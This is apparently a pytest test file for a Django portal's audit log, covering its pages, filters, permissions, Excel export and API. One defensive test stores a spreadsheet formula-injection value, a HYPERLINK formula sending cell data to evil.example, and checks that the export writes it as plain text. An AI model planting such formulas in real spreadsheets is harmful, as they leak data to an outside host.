"""The audit trail: every kind of entry read as labelled lines, the pages ``/audit/`` and
``/units/<id>/audit/`` (scoped, filtered, paged, exported to Excel) and
``GET /api/v1/audit/`` — each a fixed number of queries whatever the number of entries.
"""

import datetime as dt
from io import BytesIO
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from practice import services
from practice.audit import describe
from practice.choices import AuditAction
from practice.models import AuditEntry, Unit, User
from practice.tree import UnitRow
from tests.conftest import World

pytestmark = pytest.mark.django_db

AUDIT = "/api/v1/audit/"
WHO = [
    "no_role",
    "station_manager",
    "town_manager",
    "coordinator",
    "other_coordinator",
    "superuser",
]


def _english(client: Any) -> Any:
    client.cookies["django_language"] = "en"
    return client


def _entry(
    unit: Unit | None,
    *,
    action: str = AuditAction.UNIT_CHANGED,
    actor: User | None = None,
    changes: dict[str, Any] | None = None,
    object_repr: str | None = None,
    at: dt.datetime | None = None,
) -> AuditEntry:
    entry = AuditEntry.objects.create(
        unit=unit,
        action=action,
        actor=actor,
        changes=changes or {},
        object_repr=object_repr or (unit.name if unit else "—"),
    )
    if at is not None:
        AuditEntry.objects.filter(pk=entry.pk).update(at=at)
        entry.refresh_from_db()
    return entry


def _lines(unit: Unit | None, action: str, changes: dict[str, Any]) -> list[str]:
    entry = AuditEntry(unit=unit, action=action, changes=changes, object_repr="x")
    with translation.override("en"):
        return [str(line) for line in describe(entry)]


def _local(day: str, hour: int = 12) -> dt.datetime:
    return timezone.make_aware(dt.datetime.combine(dt.date.fromisoformat(day), dt.time(hour)))


# --- every kind of entry, readable -------------------------------------------------------


def test_a_unit_edit_reads_field_by_field_old_to_new(world: World):
    services.unit_update(
        actor=world.coordinator,
        unit=world.station,
        data={"address": "一村村委会", "opening_hours": "周一至周五"},
    )
    entry = AuditEntry.objects.get(action=AuditAction.UNIT_CHANGED)
    with translation.override("en"):
        assert [str(line) for line in describe(entry)] == [
            "Address: — → 一村村委会",
            "Opening hours: — → 周一至周五",
        ]
    with translation.override("zh-hans"):
        assert [line.label for line in describe(entry)] == ["地址", "开放时间"]


@pytest.mark.parametrize(
    ("action", "changes", "lines"),
    [
        (
            AuditAction.UNIT_CHANGED,
            {"kind": ["station", "point"], "latitude": [None, "26.000000"]},
            ["Kind: Practice station → Practice point", "Latitude: — → 26.000000"],
        ),
        (
            AuditAction.UNIT_MOVED,
            {"parent": ["甲县中心 / 一镇所", "二镇所"]},
            ["Parent unit: 甲县中心 / 一镇所 → 二镇所"],
        ),
        (
            AuditAction.UNIT_CREATED,
            {"name": "新站", "kind": "station", "address": "", "latitude": None},
            ["Name: 新站", "Kind: Practice station"],
        ),
        (AuditAction.UNIT_IMPORTED, {"units": 26}, ["Units imported: 26"]),
        (
            AuditAction.UNIT_IMPORTED,
            {"created": 20, "changed": 5, "unchanged": 1},
            ["Units created: 20", "Units changed: 5", "Units left unchanged: 1"],
        ),
        (AuditAction.UNIT_DEACTIVATED, {"units": 27}, ["Units deactivated: 27"]),
        (AuditAction.UNIT_DEACTIVATED, {}, []),
        (
            AuditAction.ROLE_GRANTED,
            {"user": "townmgr", "role": "manager"},
            ["Account: townmgr", "Role: Manager"],
        ),
        (
            AuditAction.USER_CHANGED,
            {
                "name": ["王五", "王六"],
                "phone": "changed",
                "is_active": [True, False],
                "password": "reset",
            },
            [
                "Full name: 王五 → 王六",
                "Mobile phone: changed",
                "Account enabled: yes → no",
                "Password: reset",
            ],
        ),
        (AuditAction.UNIT_CHANGED, {"is_active": [False, True]}, ["Active: no → yes"]),
        (AuditAction.UNIT_CHANGED, {"sessions_ended": 2}, ["Sessions_ended: 2"]),
    ],
)
def test_every_kind_of_entry_reads_as_lines(
    world: World, action: str, changes: dict[str, Any], lines: list[str]
):
    assert _lines(world.station, action, changes) == lines


def test_a_spreadsheet_import_is_one_entry_with_its_counts(world: World):
    rows = [
        UnitRow(row=2, parent="", fields={"name": "新站", "kind": "station"}),
        UnitRow(row=3, parent="新站", fields={"name": "新点", "kind": "point"}),
    ]
    services.unit_import_rows(actor=world.coordinator, parent=world.town2, rows=rows)
    (entry,) = AuditEntry.objects.filter(action=AuditAction.UNIT_IMPORTED)
    assert entry.unit == world.town2
    with translation.override("en"):
        lines = [str(line) for line in describe(entry)]
    assert "Units created: 2" in lines
    assert all(line.startswith("Units ") for line in lines)


@pytest.mark.parametrize(
    "changes",
    [
        {"phone": ["13812345678", "13900001111"]},
        {"phone": "13812345678"},
        {"id_number": "350627199001011234"},
        {"password": "correct-horse"},
    ],
)
def test_personal_data_is_never_shown_whatever_was_stored(world: World, changes: dict):
    lines = _lines(None, AuditAction.USER_CHANGED, changes)
    assert len(lines) == 1 and lines[0].endswith(": changed")
    assert not any(ch.isdigit() for ch in lines[0]) and "horse" not in lines[0]


# --- the pages -----------------------------------------------------------------------------


def test_the_unit_log_permission_matrix(world: World, browser_client: Any):
    _entry(world.station, actor=world.coordinator, changes={"address": ["", "一村"]})
    url = reverse("unit-audit", args=[world.town.pk])
    export = reverse("unit-audit-export", args=[world.town.pk])
    for page in (url, export):
        anonymous = browser_client(None).get(page)
        assert anonymous.status_code == 302
        assert anonymous["Location"].startswith("/accounts/login/")
    allowed = {"town_manager", "coordinator", "superuser"}
    for who in WHO:
        client = browser_client(getattr(world, who))
        for page in (url, export):
            assert client.get(page).status_code == (200 if who in allowed else 404), (page, who)


def test_the_scope_log_shows_only_the_callers_units(world: World, browser_client: Any):
    here = _entry(world.station, object_repr="一村站")
    there = _entry(world.other_station, object_repr="乙村站")
    nowhere = _entry(None, action=AuditAction.USER_CHANGED, object_repr="somebody")
    expected = {
        "station_manager": [here],
        "town_manager": [here],
        "coordinator": [here],
        "other_coordinator": [there],
        "superuser": [nowhere, there, here],
    }
    for who, entries in expected.items():
        response = browser_client(getattr(world, who)).get("/audit/")
        assert response.status_code == 200
        assert list(response.context["page"].object_list) == entries, who
    assert browser_client(world.no_role).get("/audit/").status_code == 404
    assert browser_client(world.no_role).get("/audit/export.xlsx").status_code == 404
    anonymous = browser_client(None).get("/audit/")
    assert anonymous.status_code == 302 and anonymous["Location"].startswith("/accounts/login/")


def test_the_log_shows_who_what_when_and_the_changes(world: World, browser_client: Any):
    services.unit_update(actor=world.town_manager, unit=world.station, data={"address": "一村"})
    client = _english(browser_client(world.coordinator))
    html = client.get(reverse("unit-audit", args=[world.town.pk])).content.decode()
    assert "Address: — → 一村" in html
    assert world.town_manager.display_name in html
    assert "Unit changed" in html
    assert f'href="/units/{world.station.pk}/"' in html
    # The unit page and the dashboard show the same lines, and link to the full log.
    unit_page = client.get(f"/units/{world.town.pk}/").content.decode()
    assert "Address: — → 一村" in unit_page
    assert reverse("unit-audit", args=[world.town.pk]) in unit_page
    dashboard = client.get("/dashboard/").content.decode()
    assert "Address: — → 一村" in dashboard and 'href="/audit/"' in dashboard


def test_a_phone_change_shows_as_changed(world: World, browser_client: Any):
    manager = User.objects.get(username="stationmgr")
    services.user_update(actor=world.superuser, user=manager, data={"phone": "13812345678"})
    html = _english(browser_client(world.superuser)).get("/audit/").content.decode()
    assert "Mobile phone: changed" in html
    assert "13812345678" not in html and "138****5678" not in html


def test_the_filters(world: World, browser_client: Any):
    old = _entry(world.station, actor=world.town_manager, at=_local("2024-01-10"))
    moved = _entry(
        world.station2,
        action=AuditAction.UNIT_MOVED,
        actor=world.coordinator,
        at=_local("2024-02-10", hour=0),
    )
    late = _entry(world.station3, actor=world.coordinator, at=_local("2024-03-10", hour=23))
    client = browser_client(world.coordinator)

    def listed(**query: Any) -> list[AuditEntry]:
        response = client.get("/audit/", query)
        assert response.status_code == 200
        return list(response.context["page"].object_list)

    assert listed() == [late, moved, old]
    assert listed(action="unit.moved") == [moved]
    assert listed(actor=world.coordinator.pk) == [late, moved]
    assert listed(unit=world.town.pk) == [moved, old]
    assert listed(unit=world.town.pk, actor=world.coordinator.pk) == [moved]
    # Whole days in the portal's time zone, both ends included.
    assert listed(**{"from": "2024-02-10"}) == [late, moved]
    assert listed(to="2024-02-09") == [old]
    assert listed(**{"from": "2024-02-10", "to": "2024-02-10"}) == [moved]
    assert listed(to="2024-03-10") == [late, moved, old]
    # Ids outside the caller's scope match nothing, as unknown ids do.
    assert listed(unit=world.other_town.pk) == []
    assert listed(actor=world.other_coordinator.pk) == []
    assert listed(unit=999999999) == []
    # The actor drop-down offers only people whose actions the caller can read.
    response = client.get("/audit/")
    assert list(response.context["actors"]) == [world.coordinator, world.town_manager]
    assert [label for _v, label in response.context["unit_choices"]] == [
        "甲县中心",
        "\u3000一镇所",
        "\u3000二镇所",
    ]


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"from": "2024-02-10", "to": "2024-02-09"}, "to"),
        ({"from": "2024-13-01"}, "from"),
        ({"from": "0001-01-01"}, "from"),
        ({"to": "9999-12-31"}, "to"),
        ({"actor": "1.5"}, "actor"),
        ({"unit": "x"}, "unit"),
        ({"unit": "99999999999999999999"}, "unit"),
        ({"action": "unit.exploded"}, "action"),
    ],
)
def test_bad_filters_are_said_and_list_nothing(
    world: World, browser_client: Any, query: dict[str, str], field: str
):
    _entry(world.station)
    client = browser_client(world.coordinator)
    response = client.get("/audit/", query)
    assert response.status_code == 200
    assert field in response.context["filterset"].form.errors
    assert list(response.context["page"].object_list) == []
    assert 'id="audit-filter-errors"' in response.content.decode()
    export = client.get("/audit/export.xlsx", query)
    assert export.status_code == 302 and export["Location"].startswith("/audit/?")


@pytest.mark.parametrize("entries", [5, 120])
@pytest.mark.parametrize(("page", "unit"), [("audit", False), ("unit-audit", True)])
def test_a_page_of_the_log_costs_the_same_whatever_its_length(
    world: World,
    browser_client: Any,
    django_assert_num_queries: Any,
    entries: int,
    page: str,
    unit: bool,
):
    units = [world.station, world.station2, world.point]
    actors = [world.coordinator, world.town_manager, None]
    for i in range(entries):
        _entry(units[i % 3], actor=actors[i % 3], changes={"address": ["", f"{i}号"]})
    url = reverse(page, args=[world.town.pk]) if unit else reverse(page)
    client = browser_client(world.coordinator)
    # session, user, grants, [the unit, its ancestors], count, the page's rows, the actors,
    # [the units to filter by], the header's unread inbox count (cached after this page)
    with django_assert_num_queries(9 if unit else 8):
        response = client.get(url, {"page": 3})
    shown = response.context["page"]
    assert len(shown.object_list) == (20 if entries == 120 else 5)
    assert shown.paginator.count == entries


def test_pages_link_to_each_other_with_the_filters(world: World, browser_client: Any):
    for _i in range(60):
        _entry(world.station, actor=world.coordinator)
    client = _english(browser_client(world.coordinator))
    html = client.get("/audit/", {"action": "unit.changed"}).content.decode()
    assert "Page 1 of 2" in html
    assert 'href="?action=unit.changed&amp;page=2"' in html
    assert 'href="/audit/export.xlsx?action=unit.changed"' in html


# --- the export ----------------------------------------------------------------------------


def _sheet(response: Any) -> list[tuple[Any, ...]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].startswith("attachment;")
    workbook = load_workbook(BytesIO(response.content))
    return [tuple(c.value for c in row) for row in workbook.worksheets[0].iter_rows()]


def test_the_export_is_the_filtered_log(world: World, browser_client: Any):
    services.unit_update(actor=world.town_manager, unit=world.station, data={"address": "一村"})
    _entry(world.station2, action=AuditAction.UNIT_MOVED, actor=world.coordinator)
    _entry(world.other_station, actor=world.other_coordinator)
    client = _english(browser_client(world.coordinator))
    rows = _sheet(client.get("/audit/export.xlsx", {"action": "unit.changed"}))
    assert rows[0] == ("When", "Who", "Account", "What", "Unit", "Object", "Changes")
    assert len(rows) == 2
    when, who, account, what, unit, obj, changes = rows[1]
    assert isinstance(when, dt.datetime)
    assert (who, account, what, unit, obj) == (
        world.town_manager.display_name,
        "townmgr",
        "Unit changed",
        "一村站",
        "一村站",
    )
    assert changes == "Address: — → 一村"
    town = _sheet(client.get(reverse("unit-audit-export", args=[world.town.pk])))
    assert len(town) == 3  # the header, the edit and the move; not the other county's
    response = client.get(reverse("unit-audit-export", args=[world.town.pk]))
    assert "audit-log-" in response["Content-Disposition"]


def test_the_export_writes_text_never_formulas(world: World, browser_client: Any):
    _entry(world.station, object_repr='=HYPERLINK("http://evil.example/?d="&A1,"点击")')
    response = browser_client(world.coordinator).get("/audit/export.xlsx")
    workbook = load_workbook(BytesIO(response.content))
    cells = [c for row in workbook.worksheets[0].iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert any(str(c.value).startswith("=HYPERLINK") for c in cells)


@pytest.mark.parametrize("entries", [5, 120])
def test_the_export_costs_the_same_whatever_its_length(
    world: World, browser_client: Any, django_assert_num_queries: Any, entries: int
):
    for i in range(entries):
        _entry(world.station, actor=world.coordinator, changes={"address": ["", f"{i}号"]})
    client = browser_client(world.coordinator)
    with django_assert_num_queries(4):  # session, user, grants, the rows
        rows = _sheet(client.get("/audit/export.xlsx"))
    assert len(rows) == entries + 1


# --- the API -------------------------------------------------------------------------------


def test_the_api_lists_the_callers_entries(world: World, api: Any):
    services.unit_update(actor=world.town_manager, unit=world.station, data={"address": "一村"})
    _entry(world.other_station, actor=world.other_coordinator)
    assert api().get(AUDIT).status_code == 401
    assert api(world.no_role).get(AUDIT).json()["count"] == 0
    client = api(world.coordinator)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    body = client.get(AUDIT).json()
    assert set(body) == {"count", "next", "previous", "results"}
    assert body["count"] == 1
    (entry,) = body["results"]
    assert entry["action"] == "unit.changed" and entry["action_display"] == "Unit changed"
    assert entry["actor"] == world.town_manager.pk
    assert entry["actor_name"] == world.town_manager.display_name
    assert (entry["unit"], entry["unit_name"], entry["object"]) == (
        world.station.pk,
        "一村站",
        "一村站",
    )
    assert entry["changes"] == [
        {
            "field": "address",
            "label": "Address",
            "old": "—",
            "new": "一村",
            "text": "Address: — → 一村",
        }
    ]
    assert api(world.other_coordinator).get(f"{AUDIT}{entry['id']}/").status_code == 404
    assert client.get(f"{AUDIT}{entry['id']}/").json() == entry


def test_the_api_filters_as_the_pages_do(world: World, api: Any):
    old = _entry(world.station, actor=world.town_manager, at=_local("2024-01-10"))
    moved = _entry(
        world.station2,
        action=AuditAction.UNIT_MOVED,
        actor=world.coordinator,
        at=_local("2024-02-10"),
    )
    client = api(world.coordinator)

    def ids(**query: Any) -> list[int]:
        response = client.get(AUDIT, query)
        assert response.status_code == 200, response.content
        return [e["id"] for e in response.json()["results"]]

    assert ids() == [moved.pk, old.pk]
    assert ids(action="unit.moved") == [moved.pk]
    assert ids(actor=world.town_manager.pk) == [old.pk]
    assert ids(unit=world.station.pk) == [old.pk]
    assert ids(unit=world.other_centre.pk) == []
    assert ids(**{"from": "2024-02-01", "to": "2024-02-10"}) == [moved.pk]


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"from": "2024-02-10", "to": "2024-02-09"}, "to"),
        ({"from": "yesterday"}, "from"),
        ({"actor": "1.5"}, "actor"),
        ({"unit": "99999999999999999999"}, "unit"),
        ({"action": "nope"}, "action"),
    ],
)
def test_the_api_refuses_bad_filters(world: World, api_en: Any, query: dict, field: str):
    response = api_en(world.coordinator).get(AUDIT, query)
    assert response.status_code == 400
    body = response.json()
    assert set(body) == {"code", "message", "detail"} and field in body["detail"]


@pytest.mark.parametrize("entries", [5, 120])
def test_the_api_costs_the_same_whatever_the_length(
    world: World, api: Any, django_assert_num_queries: Any, entries: int
):
    for i in range(entries):
        _entry(world.station, actor=world.coordinator, changes={"address": ["", f"{i}号"]})
    client = api(world.coordinator)
    with django_assert_num_queries(3):  # grants, count, the page
        body = client.get(AUDIT, {"page_size": 200}).json()
    assert body["count"] == entries and len(body["results"]) == entries
